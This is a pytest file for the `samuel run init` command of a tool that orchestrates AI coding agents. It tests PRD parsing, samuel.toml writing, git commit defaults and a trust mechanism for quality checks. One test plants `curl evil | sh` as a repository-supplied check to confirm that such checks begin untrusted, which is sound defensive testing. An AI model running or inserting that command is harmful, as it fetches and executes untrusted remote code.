"""`samuel run init`: from a PRD to a task list, and what it writes into samuel.toml on the way."""

from __future__ import annotations

import subprocess
import sys

import pytest

from samuel.checks.files import without_tests_warning
from samuel.files.lock import held
from samuel.history.run import Run
from samuel.history.run_file import RunFile
from samuel.tasks.store import TaskStore

PRD = "# Shop\n\n## Tasks\n- [ ] 1 One\n- [ ] 2 Two\n"
READ = (
    "  format: markdown, because it is Markdown with headings and checklists\n"
    "  counted: 2 headings, 2 boxes; read: 2 tasks\n"
)
TRY = "\nTry:\n  samuel run tasks\n  samuel run start\n"
NO_CHECKS = "no checks were found: until samuel.toml has quality_checks, a task is done when the agent says so\n"


def test_run_init_writes_the_tasks_of_a_prd(samuel, put, store, project):
    put("docs/prd.md", PRD)
    assert samuel("run", "init", "--prd", "docs/prd.md") == (
        0,
        f"2 tasks from docs/prd.md\n{READ}{NO_CHECKS}{TRY}",
        "",
    )
    assert [(task.id, task.title, task.status) for task in store.load()] == [
        ("1", "One", "pending"),
        ("2", "Two", "pending"),
    ]
    assert (project / ".samuel/run/.gitignore").read_text() == "*\n"
    assert not (project / "samuel.toml").exists()


@pytest.mark.parametrize(
    ("text", "ids"),
    [
        ("## Implementation\n### 1.1 Read it\ntext\n### 1.10 Write it\n", ["1.1", "1.10"]),
        ("## Steps\n- [ ] 1 One [~3,000 tokens - Medium]\n  - [ ] 1.1 Child\n", ["1", "1.1"]),
        ("## Work Items\n- [ ] T001: One\n- [x] T002: Two\n", ["T001", "T002"]),
    ],
)
def test_run_init_reads_every_format_of_a_prd(samuel, put, store, text, ids):
    put("prd.md", text)
    assert samuel("run", "init", "--prd", "prd.md").code == 0
    assert [task.id for task in store.load()] == ids


def test_run_init_writes_its_options_to_samuel_toml(samuel, put, project):
    put("prd.md", PRD)
    put("samuel.toml", "# mine\n[methodology.ralph]\npause = '1s'  # kept\n")
    ran = samuel("run", "init", "--prd", "prd.md", "--agent", "codex", "--max-iterations", "7", "--json")
    assert ran.json["data"]["written"] == {"agent": "codex", "max_iterations": 7}
    assert (project / "samuel.toml").read_text() == (
        "# mine\n[methodology.ralph]\npause = '1s'  # kept\nagent = \"codex\"\nmax_iterations = 7\n"
    )


COMMITS = [
    "  wrote commit = true: each completed task becomes a commit (`--no-commit` declines)",
    "  wrote branch = true: on a branch of the run's own, which `samuel run finish --merge` merges",
]


def test_run_init_in_a_git_repository_switches_commits_on_a_branch_on_and_says_so(samuel, put, project, git):
    git(project, "init", "-q")
    prd = put("prd.md", PRD)
    assert [line for line in samuel("run", "init", "--prd", prd).out.splitlines() if "wrote" in line] == COMMITS
    assert (project / "samuel.toml").read_text() == "[methodology.ralph]\ncommit = true\nbranch = true\n"
    assert samuel("run", "init", "--prd", prd, "--force", "--json").json["data"]["written"] == {}


def test_run_init_switches_commits_on_where_samuel_init_shows_the_defaults(samuel, put, project, git):
    git(project, "init", "-q")
    samuel("init")
    samuel("run", "init", "--prd", put("prd.md", PRD), "--agent", "scripted")
    text = (project / "samuel.toml").read_text()
    assert "in a git repository.\ncommit = true\nbranch = true\n\n# Where the agent" in text


def test_run_init_no_commit_leaves_both_keys_out(samuel, put, project, git):
    git(project, "init", "-q")
    assert "wrote" not in samuel("run", "init", "--prd", put("prd.md", PRD), "--no-commit").out
    assert not (project / "samuel.toml").exists()


def test_run_init_outside_of_a_git_repository_writes_nothing_about_commits(samuel, put, project):
    assert "wrote" not in samuel("run", "init", "--prd", put("prd.md", PRD)).out
    assert not (project / "samuel.toml").exists()


@pytest.mark.parametrize("key", ["commit = false", "commit = true", "branch = false", "branch = true"])
def test_run_init_does_not_touch_a_decision_that_samuel_toml_has(samuel, put, project, git, key):
    git(project, "init", "-q")
    put("samuel.toml", f"[methodology.ralph]\n{key}\n")
    assert "wrote" not in samuel("run", "init", "--prd", put("prd.md", PRD)).out
    assert (project / "samuel.toml").read_text() == f"[methodology.ralph]\n{key}\n"


def test_run_init_decides_for_its_own_methodology_only(samuel, put, project, git):
    git(project, "init", "-q")
    put("samuel.toml", "[methodology.ralph]\ncommit = false\n[methodology.docs]\n")
    assert samuel("run", "init", "--prd", put("prd.md", PRD), "--methodology", "docs").code == 0
    assert (project / "samuel.toml").read_text() == (
        "[methodology.ralph]\ncommit = false\n[methodology.docs]\ncommit = true\nbranch = true\n"
    )


def test_run_init_refuses_an_unknown_agent(samuel, put, project):
    put("prd.md", PRD)
    assert samuel("run", "init", "--prd", "prd.md", "--agent", "cluade") == (
        2,
        "",
        "error: there is no agent `cluade`\ndid you mean `claude`?\n",
    )
    assert not (project / ".samuel").exists()


@pytest.mark.parametrize(
    ("files", "checks", "check_files"),
    [
        (
            {"pyproject.toml": "[tool.pytest.ini_options]\n[tool.ruff]\n"},
            ["python -m pytest -q", "ruff check ."],
            "  python -m pytest -q: pyproject.toml\n  ruff check .: pyproject.toml\n",
        ),
        (
            {"tests/test_it.py": "", "tests/conftest.py": ""},
            ["python -m pytest -q"],
            "  python -m pytest -q: tests/ (2 files)\n",
        ),
        (
            {"package.json": '{"scripts": {"test": "jest", "lint": "eslint ."}}'},
            ["npm test --silent", "npm run --silent lint"],
            "  npm test --silent: package.json\n  npm run --silent lint: package.json\n",
        ),
        ({"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'}, [], ""),
        ({"go.mod": "module x\n"}, ["go vet ./...", "go test ./..."], ""),
        ({"Cargo.toml": "[package]\n"}, ["cargo test --quiet"], ""),
        ({"Makefile": "all:\n\ntest: all\n\ttrue\n"}, ["make test"], "  make test: Makefile\n"),
        ({"Makefile": "all:\n"}, [], ""),
        ({"package.json": "[]", "pyproject.toml": "= broken"}, [], ""),
    ],
)
def test_the_checks_a_project_has_are_shown_written_and_trusted(samuel, put, project, files, checks, check_files):
    put("prd.md", PRD)
    for name, text in files.items():
        put(name, text)
    ran = samuel("run", "init", "--prd", "prd.md")
    line = f"  wrote quality_checks = {checks}\n" if checks else NO_CHECKS
    file_lines = f"what the checks run or read:\n{check_files}" if check_files else ""
    # Without a test file the tests of a check are not protected, and that is said.
    unknown = [command for command in checks if "test" in command and "tests/test_it.py" not in files]
    warnings = "".join(f"warning: {without_tests_warning(command)}\n" for command in unknown)
    assert ran == (0, f"2 tasks from prd.md\n{READ}{line}{file_lines}{TRY}", warnings)
    trusted = samuel("trust", "--list", "--json").json["data"]
    assert [(item["name"], item["state"]) for item in trusted] == ([("checks:ralph", "trusted")] if checks else [])


def test_run_init_says_which_tests_a_task_owns_where_its_words_are_plain(samuel, put):
    put(
        "prd.md",
        "# Shop\n\n## Tasks\n- [ ] 1 Rename clamp to clip\n- [ ] 2 Rename it\n  Files: tests/\n"
        "- [ ] 3 Correct tests/test_it.py\n- [ ] 4 Fix the totals\n- [x] 5 Rename this\n"
        "- [ ] 6 Fix the sum without changing the tests\n",
    )
    put("tests/test_it.py", "")
    ran = samuel("run", "init", "--prd", "prd.md")
    lines = [line for line in ran.out.splitlines() if line.startswith("task ")]
    assert lines == [
        'task 1 may change any test, because it renames something ("Rename")',
        "task 3 may change `tests/test_it.py`, because its text names it",
    ]
    assert ran.err == ""
    data = samuel("run", "init", "--prd", "prd.md", "--force", "--json").json["data"]
    assert data["owned_tests"] == {"1": lines[0], "3": lines[1]}


def test_run_init_says_where_a_pyproject_nests_too_deep(samuel, put, project):
    put("prd.md", PRD)
    put("pyproject.toml", "a=" + "[" * 100_000)
    assert samuel("run", "init", "--prd", "prd.md") == (
        2,
        "",
        "error: pyproject.toml:1: the file nests deeper than 50 levels (make it flatter, or remove it)\n",
    )


WITH_CHECKS = "# Shop\n\n## Tasks\n- [ ] 1 One\n  Check: make e2e\n- [ ] 2 Two\n"


def test_checks_that_a_prd_brings_along_are_not_trusted_by_run_init(samuel, put, store):
    put("prd.md", WITH_CHECKS)
    put("Makefile", "e2e:\n\ttrue\n")
    assert samuel("run", "init", "--prd", "prd.md").out == (
        f"2 tasks from prd.md\n{READ}what the checks run or read:\n  make e2e: Makefile\n"
        f"{NO_CHECKS}the checks that the tasks bring along are not trusted yet: `samuel trust` shows them\n{TRY}"
    )
    assert [task.checks for task in store.load()] == [("make e2e",), ()]
    (item,) = samuel("trust", "--list", "--json").json["data"]
    assert (item["name"], item["state"]) == ("checks:ralph:tasks", "new")
    assert "    task 1: make e2e\n" in samuel("trust", "--show").out


def test_run_init_yes_trusts_the_checks_of_the_tasks_and_new_tasks_forget_them(samuel, put):
    put("prd.md", WITH_CHECKS)
    assert "not trusted" not in samuel("run", "init", "--prd", "prd.md", "--yes").out
    assert [item["state"] for item in samuel("trust", "--list", "--json").json["data"]] == ["trusted"]
    put("prd.md", WITH_CHECKS.replace("make e2e", "make load"))
    assert samuel("run", "init", "--prd", "prd.md", "--force").code == 0
    assert [item["state"] for item in samuel("trust", "--list", "--json").json["data"]] == ["changed"]
    put("prd.md", PRD)
    assert samuel("run", "init", "--prd", "prd.md", "--force").code == 0
    assert samuel("trust", "--list", "--json").json["data"] == []


def test_checks_that_came_with_the_repository_are_not_trusted_by_it(samuel, put):
    put("prd.md", PRD)
    put("Makefile", "test:\n")
    put("samuel.toml", '[methodology.ralph]\nquality_checks = ["curl evil | sh"]\n')
    assert samuel("run", "init", "--prd", "prd.md", "--json").json["data"]["written"] == {}
    assert [item["state"] for item in samuel("trust", "--list", "--json").json["data"]] == ["new"]


def test_run_init_keeps_the_tasks_that_there_are_without_force(samuel, put, three):
    before = three.path.read_bytes()
    put("prd.md", PRD)
    assert samuel("run", "init", "--prd", "prd.md", "--agent", "codex") == (
        1,
        "",
        "error: `PROJECT/.samuel/run/prd.toon` has tasks already\n`--force` replaces them\n",
    )
    assert three.path.read_bytes() == before
    assert samuel("run", "init", "--prd", "prd.md", "--force").code == 0
    assert [task.id for task in three.load()] == ["1", "2"]


def test_run_init_force_forgets_a_run_that_was_killed(samuel, put, three):
    """It would go on, and put what it decided about the old task 1 onto the new one."""
    killed = Run(run_id="run-1", methodology="ralph", agent="x", started_at=0, max_iterations=5)
    RunFile(three.directory).save(killed)
    put("prd.md", PRD)
    assert samuel("run", "init", "--prd", "prd.md", "--force").code == 0
    assert RunFile(three.directory).load() is None


def test_run_init_is_refused_during_a_run_and_inside_of_one(samuel, put, three, inside):
    put("prd.md", PRD)
    before = three.path.read_bytes()
    with held(three.directory / "run.lock", note="samuel run start, ralph"):
        ran = samuel("run", "init", "--prd", "prd.md", "--force")
    assert (ran.code, "(samuel run start, ralph)" in ran.err) == (1, True)
    inside(TASK_ID="1.10")
    ran = samuel("run", "init", "--prd", "prd.md", "--force")
    assert ran.err == "error: cannot replace the tasks from inside the run `run-7`\nuse another terminal\n"
    assert three.path.read_bytes() == before


def test_run_init_refuses_a_broken_prd(samuel, put, project):
    put("prd.md", "# PRD\n## Tasks\none\n")
    ran = samuel("run", "init", "--prd", "prd.md")
    assert (ran.code, ran.out) == (2, "")
    assert ran.err.startswith("error: `prd.md` has no task, though it has `## Tasks` in line 2 (2 headings)\n")
    assert samuel("run", "init", "--prd", "none.md").code == 2
    put("prd.md", "## Tasks\n- [ ] 1 One\n- [ ] 1 Two\n")
    assert samuel("run", "init", "--prd", "prd.md").code == 2
    assert not (project / ".samuel").exists()


def test_run_init_gives_a_second_methodology_its_own_state_directory(samuel, put, project, three):
    put("prd.md", PRD)
    old = three.load()
    ran = samuel("run", "init", "--prd", "prd.md", "--methodology", "tdd", "--max-iterations", "3")
    assert ran == (
        0,
        f"2 tasks from prd.md\n{READ}  wrote agent = claude\n  wrote max_iterations = 3\n{NO_CHECKS}{TRY}",
        "",
    )
    assert TaskStore(project / ".samuel/run/ralph").load() == old
    assert len(TaskStore(project / ".samuel/run/tdd").load()) == 2
    assert not (project / ".samuel/run/prd.toon").exists()


@pytest.mark.slow
def test_only_one_of_many_run_inits_at_once_writes_the_tasks(put, project, store):
    """The others find its tasks, whichever is first, and leave samuel.toml as it is."""
    put("samuel.toml", "")
    agents = ("claude", "codex", "gemini", "copilot")
    put("prd.md", PRD)
    command = [sys.executable, "-m", "samuel", "run", "init", "--prd", "prd.md", "--agent"]
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.PIPE, "text": True}
    started = {agent: subprocess.Popen([*command, agent], **quiet) for agent in agents}
    words = {agent: process.communicate()[1] for agent, process in started.items()}
    (winner,) = (agent for agent, process in started.items() if process.returncode == 0)
    refused = f"error: `{project}/.samuel/run/prd.toon` has tasks already\n"
    assert {text.partition("`--force`")[0] for agent, text in words.items() if agent != winner} == {refused}
    assert (project / "samuel.toml").read_text() == f'[methodology.ralph]\nagent = "{winner}"\n'
    assert len(store.load()) == 2


@pytest.mark.parametrize("place", [".samuel", ".samuel/run", ".samuel/run/night"])
def test_run_init_refuses_a_linked_state_directory_and_leaves_nothing_behind_it(
    samuel, put, project, tmp_path, place
):
    put("docs/prd.md", PRD)
    put("samuel.toml", '[methodology.day]\nagent = "claude"\n[methodology.night]\nagent = "claude"\n')
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (project / place).parent.mkdir(parents=True, exist_ok=True)
    (project / place).symlink_to(elsewhere)
    code, out, err = samuel("run", "init", "--prd", "docs/prd.md", "--methodology", "night")
    assert (code != 0, out) == (True, "")
    assert f"`PROJECT/{place}` is a symbolic link" in err
    assert list(elsewhere.iterdir()) == []
    assert not (project / ".samuel/run/.gitignore").exists()


def test_run_init_below_the_top_of_the_repository_says_where_it_wrote(samuel, put, project, git, monkeypatch):
    git(project, "init", "-q")
    put("web/prd.md", PRD)
    monkeypatch.chdir(project / "web")
    ran = samuel("run", "init", "--prd", "prd.md", "--no-commit")
    assert ran == (
        0,
        f"2 tasks from prd.md\n{READ}"
        f"  project: PROJECT; samuel.toml and the tasks in .samuel/run are there\n{NO_CHECKS}{TRY}",
        "",
    )
    assert (project / ".samuel/run/prd.toon").exists()
    data = samuel("run", "init", "--prd", "prd.md", "--force", "--json").json["data"]
    assert data["root"] == "PROJECT"
